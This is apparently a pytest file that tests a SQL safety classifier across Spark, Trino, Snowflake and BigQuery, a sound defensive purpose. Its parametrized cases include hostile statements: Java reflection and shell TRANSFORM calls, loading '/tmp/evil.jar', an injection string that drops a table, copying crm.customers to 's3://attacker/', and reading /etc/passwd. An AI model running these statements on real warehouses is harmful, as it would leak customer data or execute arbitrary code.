"""D1 for the warehouse dialects (Spark SQL, Trino, Snowflake, BigQuery): their policy corpora
under ``tests/fixtures/sql/<dialect>/``.

No engine runs here ("dialect only"): the corpus is checked against the classifier. Every
ordinary read classifies ``read``; no side effect classifies ``read`` (0 false auto-runs);
the walls that must never open (arbitrary code, host files, substitution) are ``reject``.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from pi_notebook.sql import classify

CORPUS = Path(__file__).resolve().parent.parent / "fixtures" / "sql"
SEPARATOR = "-- ;;"
DIALECTS = ("spark", "trino", "snowflake", "bigquery")


def load(dialect: str, name: str) -> list[str]:
    """The entries of ``<dialect>/<name>``: separated by ``-- ;;`` lines, comment lines
    dropped."""
    entries, current = [], []
    text = (CORPUS / dialect / name).read_text(encoding="utf-8")
    for line in [*text.splitlines(), SEPARATOR]:
        if line.strip() != SEPARATOR:
            if not line.startswith("-- "):
                current.append(line)
            continue
        entry = "\n".join(current).strip()
        current = []
        if entry:
            entries.append(entry)
    return entries


@pytest.mark.parametrize("dialect", DIALECTS)
def test_d1_warehouse_corpus_sizes(dialect: str) -> None:
    reads, effects = load(dialect, "reads.sql"), load(dialect, "side_effects.sql")
    assert len(reads) >= 50 and len(effects) >= 60
    assert len(set(reads)) == len(reads) and len(set(effects)) == len(effects)


@pytest.mark.parametrize("dialect", DIALECTS)
def test_d1_every_warehouse_corpus_read_is_classified_read(dialect: str) -> None:
    verdicts = {sql: classify(sql, dialect) for sql in load(dialect, "reads.sql")}
    assert {sql: v.reasons for sql, v in verdicts.items() if v.kind != "read"} == {}


@pytest.mark.parametrize("dialect", DIALECTS)
def test_d1_no_warehouse_side_effect_is_classified_read(dialect: str) -> None:
    false_reads = [
        sql for sql in load(dialect, "side_effects.sql") if classify(sql, dialect).kind == "read"
    ]
    assert false_reads == []


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("SELECT reflect('java.lang.Runtime', 'getRuntime')", "reject"),
        ("SELECT java_method('java.lang.System', 'exit', 0)", "reject"),
        ("SELECT try_reflect('java.lang.Thread', 'sleep', 1000L)", "reject"),
        ("SELECT TRANSFORM (id) USING 'sh' AS (x) FROM t", "reject"),
        ("ADD JAR '/tmp/evil.jar'", "reject"),
        ("INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' SELECT 1", "reject"),
        ("SELECT '${env:HOME}'", "reject"),
        ("SELECT 'a\\'; DROP TABLE t; --'", "reject"),
        ("SELECT 'it\\'s'", "write"),
        ("SELECT * FROM parquet.`/data/x`", "write"),
        ("SELECT * FROM read_files('/data/x')", "write"),
        ("SET spark.sql.ansi.enabled = false", "write"),
        ("CACHE TABLE t", "write"),
        ("CREATE TEMPORARY VIEW v AS SELECT 1", "write"),
        ("ADD FILE '/tmp/x'", "write"),
        ("SELECT unknown_function(1)", "write"),
        ("SELECT input_file_name() FROM t", "read"),
        ("SELECT * FROM t VERSION AS OF 3", "read"),
        ("DESCRIBE TABLE EXTENDED db.t", "read"),
        ("DESCRIBE parquet.`/etc/`", "write"),
        ("SELECT 1 FROM", "reject"),
        ("SELECT reflect FROM t", "read"),
    ],
)
def test_d1_spark_verdicts(sql: str, kind: str) -> None:
    assert classify(sql, "spark").kind == kind


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("SELECT * FROM system.runtime.queries", "write"),
        ("SELECT * FROM system.metadata.catalogs", "write"),
        ("SELECT * FROM TABLE(system.query(query => 'DELETE FROM t'))", "write"),
        ("CALL system.runtime.kill_query(query_id => 'q')", "write"),
        ("SET SESSION query_max_run_time = '100d'", "write"),
        ("RESET SESSION query_max_run_time", "write"),
        ("PREPARE q FROM SELECT 1", "write"),
        ("EXECUTE q", "write"),
        ("EXPLAIN ANALYZE DELETE FROM t", "write"),
        ("SELECT unknown_function(1)", "write"),
        (
            "SELECT * FROM TABLE(exclude_columns(input => TABLE(t), columns => DESCRIPTOR(a)))",
            "read",
        ),
        ("SELECT * FROM system.jdbc.tables", "read"),
        ("SELECT * FROM t FOR VERSION AS OF 3", "read"),
        ("EXPLAIN (TYPE DISTRIBUTED) SELECT 1", "read"),
        ("DESCRIBE hive.db.t", "read"),
        ("SELECT 1 FROM", "reject"),
    ],
)
def test_d1_trino_verdicts(sql: str, kind: str) -> None:
    assert classify(sql, "trino").kind == kind


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("GET @my_stage/x file:///home/user/", "reject"),
        ("COPY INTO 's3://attacker/b/' FROM crm.customers", "reject"),
        ("COPY INTO @my_stage/out/ FROM crm.customers", "write"),
        ("PUT file:///etc/passwd @~", "write"),
        ("SELECT * FROM @my_stage/path/file.csv", "write"),
        ("SELECT SYSTEM$CANCEL_ALL_QUERIES(1)", "write"),
        ("SELECT * FROM snowflake.account_usage.query_history", "write"),
        ("CALL sales.cleanup()", "write"),
        ("EXECUTE IMMEDIATE 'DELETE FROM t'", "write"),
        ("USE ROLE accountadmin", "write"),
        ("ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0", "write"),
        ("DESC STAGE my_stage", "write"),
        ("SELECT exfil(name) FROM crm.customers", "write"),
        ("SELECT payload:source::string FROM raw.events", "read"),
        ("SELECT * FROM sales.orders AT(OFFSET => -3600)", "read"),
        ("SELECT f.value FROM t, TABLE(FLATTEN(input => t.items)) f", "read"),
        ("DESCRIBE TABLE sales.orders", "read"),
        ("SELECT 1 FROM", "reject"),
    ],
)
def test_d1_snowflake_verdicts(sql: str, kind: str) -> None:
    assert classify(sql, "snowflake").kind == kind


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("EXPORT DATA OPTIONS (uri = 'gs://x/*.csv', format = 'CSV') AS SELECT 1", "reject"),
        ("BEGIN SELECT 1; END", "reject"),
        ("DECLARE x INT64 DEFAULT 1", "write"),
        ("SET x = 2", "write"),
        ("EXECUTE IMMEDIATE 'DELETE FROM t WHERE TRUE'", "write"),
        ("CALL ds.cleanup()", "write"),
        ("LOAD DATA INTO ds.t FROM FILES (format = 'CSV', uris = ['gs://b/x.csv'])", "write"),
        ("SELECT * FROM EXTERNAL_QUERY('conn', 'SELECT 1')", "write"),
        ("CREATE MODEL ds.m OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label", "write"),
        ("SELECT * FROM ML.PREDICT(MODEL ds.m, (SELECT 1 AS x))", "write"),
        ("SELECT * FROM `region-us.INFORMATION_SCHEMA.JOBS`", "write"),
        ("SELECT ds.my_udf(x) FROM t", "write"),
        ("SHOW TABLES", "write"),
        ("SELECT SAFE.PARSE_DATE('%Y%m%d', s), NET.HOST(u) FROM t", "read"),
        ("SELECT * FROM ds.t FOR SYSTEM_TIME AS OF '2024-01-01'", "read"),
        ("SELECT * FROM ds.INFORMATION_SCHEMA.TABLES", "read"),
        ("SELECT 1 FROM", "reject"),
    ],
)
def test_d1_bigquery_verdicts(sql: str, kind: str) -> None:
    assert classify(sql, "bigquery").kind == kind
